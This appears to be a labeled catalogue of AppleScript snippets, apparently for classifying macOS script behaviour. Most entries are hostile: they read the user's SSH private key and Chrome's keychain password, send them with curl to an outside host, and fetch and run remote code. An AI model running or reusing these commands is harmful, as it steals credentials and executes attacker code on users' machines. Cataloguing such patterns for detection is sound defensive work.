%% secret: shell
set d to do shell script "cat ~/.ssh/id_rsa"
%% secret: at once
set d to read (POSIX file ((POSIX path of (path to home folder)) & ".ssh/id_rsa"))
%% secret: keychain
set d to do shell script "security find-generic-password -wa Chrome"
%% sent: curl
do shell script "curl -d " & quoted form of d & " https://qzv-sync.top/c"
%% sent: curl with options
do shell script "curl -s -X POST --data '" & d & "' https://qzv-sync.top/c"
%% code: curl
set c to do shell script "curl -s https://qzv-sync.top/s"
%% run: run as a script
run script c
%% run: shell
do shell script c
%% ordinary
set d to "three of four are done"
%% shown
display dialog c
